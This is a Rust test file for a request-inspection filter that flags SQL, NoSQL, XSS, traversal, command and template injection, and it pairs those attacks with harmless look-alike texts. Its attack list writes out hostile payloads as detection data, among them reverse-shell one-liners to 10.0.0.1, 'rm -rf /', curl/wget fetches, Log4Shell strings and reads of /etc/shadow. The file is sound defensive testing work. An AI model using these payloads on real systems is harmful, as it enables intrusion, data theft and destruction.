//! Attacks as they are seen, and what looks like them and is none.

use super::*;

fn all() -> Lookout {
    Lookout::new(&Group::ALL, &[], &[]).unwrap()
}

/// Groups and texts of theirs, after decoding.
const ATTACKS: &[(Group, &[&str])] = &[
    (
        Group::Sql,
        &[
            "' or 1=1",
            "' OR '1'='1",
            "admin' or 'a'='a' --",
            "\" or \"\"=\"",
            "') or ('x'='x",
            "1 or 1=1",
            "1) AND (2=2",
            "' or true--",
            "x' || '1'='1",
            "admin'--",
            "admin' #",
            "admin'/*",
            "' UNION SELECT username, password FROM users",
            "1 union all select null,null",
            "-1 union/**/select 1,2,3",
            "'; DROP TABLE users",
            "5; insert into users values (1)",
            "1'; exec xp_cmdshell('dir')",
            "1; select pg_sleep(5)",
            "' and sleep(5)='",
            "1 AND SLEEP(5)",
            "'; waitfor delay '0:0:5'--",
            "1 order by 5--",
            "select * from accounts",
            "extractvalue(1,concat(0x7e,version()))",
            "table_name from information_schema.tables",
            "x' into outfile '/tmp/x",
            "char(113,97)",
        ],
    ),
    (
        Group::Nosql,
        &[
            "user[$ne]",
            "$where",
            "{\"$where\": \"sleep(1)\"}",
            "[$regex]",
        ],
    ),
    (
        Group::Xss,
        &[
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//x>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "'onfocus='x",
            "javascript:alert(1)",
            "JaVaScRiPt: alert(1)",
            "java\tscript:alert(1)",
            "javascript://%0aalert(1)",
            "<iframe srcdoc='x'>",
            "<a href=\"javascript:x\">",
            "<body onpageshow=x>",
            "data:text/html;base64,PHN2Zz4=",
            "x=document.cookie",
            "eval(atob('YQ=='))",
            "<form action=//x>",
        ],
    ),
    (
        Group::Traversal,
        &[
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "file=/etc//shadow",
            "../.env",
            "C:\\Windows\\System32",
            "file:///etc/hosts",
            "php://filter/convert.base64-encode",
            "....//....//x",
            "/static/..;/admin",
            "/proc/self/environ",
            ".git/config",
        ],
    ),
    (
        Group::Command,
        &[
            "x; cat /etc/issue",
            "x | whoami",
            "x && id",
            "$(id)",
            "$(curl http://x)",
            "`sleep 5`",
            "a;wget http://x/y",
            "a\ncurl -s 10.0.0.1",
            "; ping -c 1 10.0.0.1",
            "x;ls -la",
            "x| sleep 10",
            "/bin/sh",
            "bash -i >& /dev/tcp/10.0.0.1/80",
            "cmd.exe /c dir",
            "powershell -enc AAAA",
            "cat${IFS}x",
            "() { :; }; echo",
            "rm -rf /",
            "nc -e /bin/sh 10.0.0.1 1",
            "__import__('os')",
        ],
    ),
    (
        Group::Template,
        &[
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:rmi://x}",
            "${::-j}",
            "${env:AWS_SECRET}",
            "{{7*7}}",
            "{{ ''.__class__ }}",
            "{{constructor.constructor('x')()}}",
            "${7*7}",
            "#{7*7}",
            "${T(java.lang.Runtime).getRuntime()}",
            "<%= 7*7 %>",
            "{% import os %}",
            "#set($x=1)",
            "<!ENTITY x SYSTEM \"file\">",
            "<!--#exec cmd=\"x\"-->",
        ],
    ),
    (
        Group::Encoding,
        &[
            "%252e%252e",
            "%2e%2e%2f",
            "a\u{0}b",
            "x\r\nSet-Cookie: a=b",
            "%u003cx",
            "%5cx",
            "%c0%ae",
        ],
    ),
];

/// What people write, and programs.
const HARMLESS: &[&str] = &[
    "O'Brien",
    "Conan O'Brien and 'friends'",
    "D'Angelo's & Sons; since 1999",
    "rock 'n' roll and blues",
    "it's 5 o'clock -- or later",
    "He said \"yes\" or \"no\" like that",
    "'orange' = 'fruit'",
    "select a plan",
    "Select the best plan from our list",
    "Please select from the menu where it says union",
    "student union select committee",
    "The union selects its leader; update the list and set a date",
    "drop the table reservation",
    "insert into the slot",
    "order by phone, group by age",
    "2 and 2 = 4, 1 or 2",
    "delete from basket",
    "(see 2); select the plan",
    "(above) create user accounts",
    "status = 'open' and type = 'bug'",
    "name eq 'a' or price gt 5",
    "price < 5 && size > 3",
    "a < b and c > d",
    "if x <y then z",
    "AT&T, R&D; net income",
    "cats & dogs; cat food | bird seed",
    "I <3 this & that",
    "5 > 3; id required",
    "<p>Hello <b>world</b></p>",
    "<a href=\"https://example.com/?a=1&b=2\">here</a>",
    "fields=name;id;hostname|pwd",
    "JavaScript: The Good Parts (2008)",
    "JavaScript: new features, this is top",
    "See the document. Cookie rules apply.",
    "the script (see below) runs; the style = modern",
    "../images/a.png",
    "docs/../readme",
    "wait ... / more",
    "https://example.com/a/b?c=d%20e&f=%2Fg",
    "https://a.example/cb?next=https%3A%2F%2Fb.example%2F%3Fq%3D1",
    "/var/log and /etc are folders",
    "C:\\Users\\mary\\file.txt",
    "run `npm install` and `ls`",
    "a curl - a wave; head - tail",
    "work\nmore ... later\nhostname: x",
    "system ('old') is down",
    "sleep (8 hours), benchmark (2023)",
    "costs $5 (or ${price})",
    "Dear {{name}}, {{ order.id }}",
    "__init__.py",
    "100% of 50%, 5%5",
    "50%25 off",
    "#set of 3; #1 in class",
    "2026-11-29T12:00:00Z",
    "mary+tag@example.com",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    "curl/8.5.0",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "line one\nLocation: Berlin\nHost: Mary",
    "naïve café – „Zitat“, 日本語; ok?",
    "SELECT",
    "x = y; y = z # note",
    "$ne wbie",
    "{\"a\": [1, 2, {\"b\": \"c\"}]}",
];

#[test]
fn attacks_are_seen_by_their_group() {
    for (group, texts) in ATTACKS {
        let one = Lookout::new(&[*group], &[], &[]).unwrap();
        let others: Vec<Group> = Group::ALL
            .into_iter()
            .filter(|other| other != group)
            .collect();
        let none = Lookout::new(&[], &[], &[]).unwrap();
        for text in *texts {
            let found = one.looks_like(text.as_bytes());
            assert_eq!(found, Some(group.words()), "{group:?}: {text}");
            assert!(all().looks_like(text.as_bytes()).is_some());
            assert_eq!(none.looks_like(text.as_bytes()), None);
        }
        assert_eq!(others.len(), 6);
    }
}

#[test]
fn what_is_harmless_is_not() {
    let all = all();
    let seen: Vec<_> = HARMLESS
        .iter()
        .filter_map(|text| Some((text, all.looks_like(text.as_bytes())?)))
        .collect();
    assert_eq!(seen, []);
}

fn tell(found: Option<Violation>) -> String {
    found.map_or_else(String::new, |one| {
        format!("{} {} {}", one.place.as_str(), one.pointer, one.message)
    })
}

#[test]
fn a_query_is_looked_at_decoded() {
    let lookout = Lookout::new(&Group::ALL, &[], &["comment".to_owned()]).unwrap();
    for (query, said) in [
        ("", ""),
        ("a=1&b=two&c", ""),
        ("q=O%27Brien&x=select+a+plan", ""),
        ("q=%27+or+1%3D1", "query /q This looks like SQL."),
        ("q=%27%20or%201=1", "query /q This looks like SQL."),
        ("comment=%27+or+1%3D1", ""),
        ("commen%74=%27+or+1%3D1", ""),
        (
            "Comment=%27+or+1%3D1",
            "query /Comment This looks like SQL.",
        ),
        (
            "user[$ne]=1",
            "query /user[$ne] This looks like an operator of a database.",
        ),
        ("%3Cscript%3E", "query /<script> This looks like a script."),
        // Twice: as a whole, and by what is only seen then.
        (
            "f=%252e%252e%252fx",
            "query /f This looks like something hidden by its encoding.",
        ),
        (
            "q=%2527%2520or%25201%253D1",
            "query /q This looks like SQL.",
        ),
        (
            "q=%25253Cscript%25253E",
            "query /q This looks like something hidden by its encoding.",
        ),
        (
            "f=..%2f..%2fetc%2fpasswd",
            "query /f This looks like a path that leads elsewhere.",
        ),
        (
            "f=%c0%ae%c0%ae/",
            "query /f This looks like something hidden by its encoding.",
        ),
        (
            "next=https%3A%2F%2Fa%2F%3Fq%3Da%2520b%26r%3Dhttps%253A%252F%252Fb",
            "",
        ),
        (
            "a/~b=%24%7Bjndi%3Adns%3A%2F%2Fx%7D",
            "query /a~1~0b This looks like an expression of a template.",
        ),
        (
            "%ff%fe=%00",
            "query /\u{fffd}\u{fffd} This looks like something hidden by its encoding.",
        ),
    ] {
        assert_eq!(tell(lookout.query(query)), said, "{query}");
        let of_form = said.replace("query /", "body /");
        assert_eq!(tell(lookout.form(query.as_bytes())), of_form);
    }
    let long = format!("{}=<script>", "n".repeat(5000));
    assert!(tell(lookout.query(&long)).len() < 150);
}

#[test]
fn texts_in_json_are_looked_at_where_they_are() {
    let exclude = ["/note", "/items/*/html", "/list/1"].map(str::to_owned);
    let lookout = Lookout::new(&Group::ALL, &[], &exclude).unwrap();
    let sql = "This looks like SQL.";
    for (body, said) in [
        (r#"{"a":"b","n":[1,2.5,null,true,{}]}"#, String::new()),
        (r#"{"a":"' or 1=1"}"#, format!("body /a {sql}")),
        (r#"{"a":"\u0027 or 1=1"}"#, format!("body /a {sql}")),
        (
            r#"{"a":[{"b/c":["x","' or 1=1"]}]}"#,
            format!("body /a/0/b~1c/1 {sql}"),
        ),
        (r#"{"' or 1=1":2}"#, format!("body /' or 1=1 {sql}")),
        (r#""' or 1=1""#, format!("body  {sql}")),
        (
            r#"{"user":{"$ne":null}}"#,
            "body /user/$ne This looks like an operator of a database.".to_owned(),
        ),
        (
            r#"{"note":"' or 1=1","items":[{"html":{"x":"<script>"}},{"html":"<svg>"}],"list":[1,"<svg>"]}"#,
            String::new(),
        ),
        (
            r#"{"items":[{"html":"<svg>","text":"<svg>"}]}"#,
            "body /items/0/text This looks like a script.".to_owned(),
        ),
        (
            r#"{"list":["<svg>"]}"#,
            "body /list/0 This looks like a script.".to_owned(),
        ),
        (
            r#"{"a":"%3Cscript%3E"}"#,
            "body /a This looks like a script.".to_owned(),
        ),
        // A member that comes twice is looked at twice.
        (r#"{"a":"x","a":"' or 1=1"}"#, format!("body /a {sql}")),
        // Whoever reads it may be less strict.
        (r#"{"a":"' or 1=1"#, format!("body  {sql}")),
        (
            "\u{feff}{\"a\":\"<script>\"}",
            "body  This looks like a script.".to_owned(),
        ),
        ("{\"a\":\"' or 1=1\"} x", format!("body /a {sql}")),
        ("{", String::new()),
        ("", String::new()),
    ] {
        assert_eq!(tell(lookout.json(body.as_bytes())), said, "{body}");
    }
    let deep = format!("{}\"<script>\"{}", "[".repeat(500), "]".repeat(500));
    assert_eq!(
        tell(lookout.json(deep.as_bytes())),
        "body  This looks like a script."
    );
    assert!(lookout.json(b"{\"a\":\"\xff<script>\"}").is_some());
}

#[test]
fn fields_and_own_patterns() {
    let own = ["(?i)forbidden".to_owned(), "^x{3}$".to_owned()];
    let lookout = Lookout::new(&[], &own, &[]).unwrap();
    let said = "This looks like what this API does not take.";
    assert_eq!(
        tell(lookout.query("a=Forbidden+fruit")),
        format!("query /a {said}")
    );
    assert_eq!(tell(lookout.query("a=xxx&b=%27+or+1=1")), "");
    assert_eq!(
        tell(lookout.header("X-Note", b"not FORBIDDEN.")),
        format!("header /x-note {said}")
    );
    let agent = b"${jndi:ldap://x}";
    assert_eq!(
        tell(all().header("User-Agent", agent)),
        "header /user-agent This looks like an expression of a template."
    );
    assert!(
        all()
            .header("Referer", b"https://a/?q=%3Cscript%3E")
            .is_some()
    );
    for (pattern, is) in [
        ("a+b", true),
        ("(a+)+$", true),
        ("(", false),
        ("(?=a)", false),
        ("a{1000}{1000}", false),
    ] {
        assert_eq!(is_pattern(pattern), is, "{pattern}");
    }
    assert!(Lookout::new(&[], &["(".to_owned()], &[]).is_none());
}

/// No text makes a look take long: neither the usual ones, nor those that are made for it.
#[test]
fn a_look_takes_as_long_as_its_text() {
    let all = all();
    let prose =
        "The quick brown fox, which isn't (or wasn't) red; jumps over 2 < 3 lazy dogs & cats. ";
    let usual = serde_json::to_vec(&vec![prose; 12]).unwrap();
    assert!((1000..1200).contains(&usual.len()));
    let mut times: Vec<_> = (0..200)
        .map(|_| {
            let began = std::time::Instant::now();
            assert_eq!(all.json(&usual), None);
            began.elapsed()
        })
        .collect();
    times.sort();
    eprintln!("1 kB of JSON: {:?} (median of 200)", times[100]);
    for hostile in [
        "<a ".to_owned(),
        "' or ".to_owned(),
        "${ {{ <% ".to_owned(),
        "union select ".to_owned(),
        "<a<b/on".to_owned(),
        "%25".to_owned(),
        "../".to_owned(),
        "; ; | & ` ( ".to_owned(),
        "j\ta\tv\ta\ts\tc\tr\ti\tp\tt".to_owned(),
        ATTACKS
            .iter()
            .flat_map(|(_, texts)| texts.iter())
            .map(|text| &text[..text.len() / 2])
            .filter(|text| all.looks_like(text.as_bytes()).is_none())
            .collect::<Vec<_>>()
            .join(" \n"),
    ] {
        let text = hostile.repeat(1_000_000 / hostile.len());
        let began = std::time::Instant::now();
        let _ = all.looks_like(text.as_bytes());
        let took = began.elapsed();
        eprintln!("1 MB of {:?}: {took:?}", &hostile[..hostile.len().min(20)]);
        assert!(took.as_millis() < 5000, "{took:?}: {hostile}");
    }
}
